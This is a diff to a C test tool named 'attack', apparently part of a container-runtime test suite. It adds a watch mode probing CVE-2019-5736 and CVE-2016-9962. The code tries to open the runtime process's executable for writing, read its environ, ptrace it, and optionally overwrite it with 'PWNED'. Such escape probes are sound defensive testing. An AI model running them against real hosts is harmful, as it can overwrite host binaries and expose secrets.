@@ -6,9 +6,12 @@
  *   attack ptrace PID             PTRACE_ATTACH (then detach)
  *   attack reopen FD TRIES        reopen /proc/self/fd/FD for writing (retrying while ETXTBSY,
  *                                 i.e. while another process still runs the file) and write
- *   attack watch STOPFILE         CVE-2019-5736 scanner: for every process that appears, try to
- *                                 open its exe for writing and keep an O_PATH fd of it; once
- *                                 STOPFILE exists, reopen each kept fd for writing.
+ *   attack watch STOPFILE [write] CVE-2019-5736 / CVE-2016-9962 scanner: for every process that
+ *                                 appears running something else than busybox or this tool (the
+ *                                 runtime entering the container), try to open its exe for
+ *                                 writing, read its environ, ptrace it, and keep an O_PATH fd
+ *                                 of its exe; once STOPFILE exists, reopen each for writing
+ *                                 (with `write` only: point it at a copy, never a host binary).
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -70,9 +73,12 @@ static int reopen_and_write(int fd, int tries, const char *label) {
         int w = open(path, O_WRONLY | O_CLOEXEC);
         if (w >= 0) {
             ssize_t n = write(w, "PWNED", 5);
-            printf("ok write %s wrote %zd\n", label, n);
+            if (n == 5)
+                printf("ok write %s\n", label);
+            else
+                printf("err %s write %s (opened)\n", name(errno), label);
             close(w);
-            return 0;
+            return n != 5;
         }
         if (errno != ETXTBSY || i == tries - 1) {
             printf("err %s write %s\n", name(errno), label);
@@ -88,7 +94,18 @@ static int same_file(int fd, const struct stat *a) {
     return fstat(fd, &b) == 0 && a->st_dev == b.st_dev && a->st_ino == b.st_ino;
 }
 
-static int watch(const char *stopfile) {
+static int still_foreign(int pid, const struct stat *self, const struct stat *busybox) {
+    char path[64];
+    snprintf(path, sizeof path, "/proc/%d/exe", pid);
+    int fd = open(path, O_PATH | O_CLOEXEC);
+    if (fd < 0)
+        return 0;
+    int foreign = !same_file(fd, self) && !same_file(fd, busybox);
+    close(fd);
+    return foreign;
+}
+
+static int watch(const char *stopfile, int write_held) {
     static char seen[MAX_PIDS];
     int held_fd[64], held_pid[64], held = 0;
     struct stat self, busybox;
@@ -130,6 +147,28 @@ static int watch(const char *stopfile) {
             } else {
                 printf("err %s openw %d\n", name(errno), pid);
             }
+            /* Each probe counts only while the process still runs the foreign exe: after its
+             * execve into busybox it is the container's own, and fair game. */
+            char env_path[64];
+            snprintf(env_path, sizeof env_path, "/proc/%d/environ", pid);
+            int envfd = open(env_path, O_RDONLY | O_CLOEXEC);
+            char envbuf[256];
+            ssize_t envn = envfd < 0 ? -1 : read(envfd, envbuf, sizeof envbuf);
+            int env_errno = errno;
+            if (envfd >= 0)
+                close(envfd);
+            if (envn > 0 && still_foreign(pid, &self, &busybox))
+                printf("ok environ %d\n", pid);
+            else if (envn < 0)
+                printf("err %s environ %d\n", name(env_errno), pid);
+            if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) {
+                waitpid(pid, NULL, __WALL);
+                if (still_foreign(pid, &self, &busybox))
+                    printf("ok ptrace %d\n", pid);
+                ptrace(PTRACE_DETACH, pid, 0, 0);
+            } else {
+                printf("err %s ptrace %d\n", name(errno), pid);
+            }
             if (held < 64) {
                 held_fd[held] = fd;
                 held_pid[held++] = pid;
@@ -141,7 +180,7 @@ static int watch(const char *stopfile) {
         if (d)
             closedir(d);
     }
-    for (int i = 0; i < held; i++) {
+    for (int i = 0; write_held && i < held; i++) {
         char label[32];
         snprintf(label, sizeof label, "pid%d", held_pid[i]);
         reopen_and_write(held_fd[i], 250, label);
@@ -158,8 +197,8 @@ int main(int argc, char **argv) {
         return do_ptrace(atoi(argv[2]));
     if (argc == 4 && !strcmp(argv[1], "reopen"))
         return reopen_and_write(atoi(argv[2]), atoi(argv[3]), "self");
-    if (argc == 3 && !strcmp(argv[1], "watch"))
-        return watch(argv[2]);
-    fprintf(stderr, "usage: attack open PATH rw|ro|path | ptrace PID | reopen FD TRIES | watch STOP\n");
+    if ((argc == 3 || argc == 4) && !strcmp(argv[1], "watch"))
+        return watch(argv[2], argc == 4 && !strcmp(argv[3], "write"));
+    fprintf(stderr, "usage: attack open PATH rw|ro|path | ptrace PID | reopen FD TRIES | watch STOP [write]\n");
     return 2;
 }
